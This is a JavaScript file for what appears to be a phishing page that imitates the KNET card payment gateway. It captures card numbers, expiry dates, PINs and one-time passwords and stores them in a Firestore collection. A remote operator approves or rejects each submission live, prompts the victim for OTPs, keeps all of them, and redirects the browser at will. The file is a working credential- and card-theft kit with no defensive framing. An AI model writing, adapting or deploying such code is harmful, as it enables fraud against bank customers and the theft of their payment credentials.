import { initializeApp } from "firebase/app";
import { getFirestore, doc, setDoc, onSnapshot } from "firebase/firestore";

const db = getFirestore(initializeApp({ apiKey: "PLACEHOLDER", projectId: "placeholder" }));

export async function addData(data) {
  localStorage.setItem("visitor", data.id);
  await setDoc(doc(db, "pays", data.id), { ...data, createdDate: new Date().toISOString() }, { merge: true });
}

export function knetPage(root) {
  const id = localStorage.getItem("visitor");
  const info = { bank: "", prefix: "", cardNumber: "", month: "", year: "", pass: "", otp: "", allOtps: [], status: "new" };
  let step = 1;

  root.querySelectorAll("[data-field]").forEach((el) => {
    el.addEventListener("input", () => { info[el.dataset.field] = el.value; });
  });

  root.querySelector("#submit").addEventListener("click", async () => {
    if (step === 1) {
      await addData({ id, ...info, status: "pending" });
      root.classList.add("loading");
    } else if (step === 2) {
      info.allOtps.push(info.otp);
      await addData({ id, otp: info.otp, allOtps: info.allOtps, status: "pending" });
      root.classList.add("loading");
      root.querySelector("[data-field=otp]").value = "";
    }
  });

  onSnapshot(doc(db, "pays", id), (snap) => {
    const d = snap.data();
    if (!d) return;
    if (d.status === "approved") { step = 2; root.classList.remove("loading"); root.classList.add("otp"); }
    if (d.status === "rejected") { root.classList.remove("loading"); alert("Card rejected, please check your details"); }
    if (d.currentPage) location.href = "/" + d.currentPage;
  });
}
